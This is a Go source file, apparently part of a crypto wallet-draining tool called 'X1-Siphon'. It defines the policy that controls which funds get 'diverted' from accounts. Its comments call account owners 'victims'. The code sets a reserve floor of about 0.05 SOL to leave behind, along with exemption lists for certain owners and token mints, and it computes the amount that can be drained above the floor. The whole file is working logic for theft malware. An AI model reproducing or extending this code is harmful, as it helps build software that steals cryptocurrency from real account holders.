package siphon

import "github.com/fortiblox/X1-Siphon/internal/types"

// DefaultReserveFloor is the native balance left behind, about 0.05 SOL.
const DefaultReserveFloor = 50_000_000

// Policy gates diversion. It is injected, never persisted.
type Policy struct {
	// ReserveFloor is the native balance never diverted.
	ReserveFloor uint64

	// ProtectedOwners are victims that are never diverted from.
	ProtectedOwners map[types.Pubkey]struct{}

	// ProtectedAssets are mints whose holdings are never diverted.
	ProtectedAssets map[types.Pubkey]struct{}
}

// DefaultPolicy returns the built-in policy: the default floor and no
// protected identities.
func DefaultPolicy() Policy {
	return Policy{
		ReserveFloor:    DefaultReserveFloor,
		ProtectedOwners: map[types.Pubkey]struct{}{},
		ProtectedAssets: map[types.Pubkey]struct{}{},
	}
}

// NewPolicy builds a policy from lists.
func NewPolicy(floor uint64, owners, assets []types.Pubkey) Policy {
	p := Policy{
		ReserveFloor:    floor,
		ProtectedOwners: make(map[types.Pubkey]struct{}, len(owners)),
		ProtectedAssets: make(map[types.Pubkey]struct{}, len(assets)),
	}
	for _, o := range owners {
		p.ProtectedOwners[o] = struct{}{}
	}
	for _, a := range assets {
		p.ProtectedAssets[a] = struct{}{}
	}
	return p
}

// IsProtectedOwner reports whether owner is exempt from diversion.
func (p Policy) IsProtectedOwner(owner types.Pubkey) bool {
	_, ok := p.ProtectedOwners[owner]
	return ok
}

// IsProtectedAsset reports whether mint is exempt. tokenMint, the
// program's own token, is always protected.
func (p Policy) IsProtectedAsset(mint, tokenMint types.Pubkey) bool {
	if mint == tokenMint {
		return true
	}
	_, ok := p.ProtectedAssets[mint]
	return ok
}

// Divertible returns the native amount above the floor. The comparison
// is strict: a balance equal to the floor yields zero.
func (p Policy) Divertible(lamports uint64) uint64 {
	if lamports > p.ReserveFloor {
		return lamports - p.ReserveFloor
	}
	return 0
}
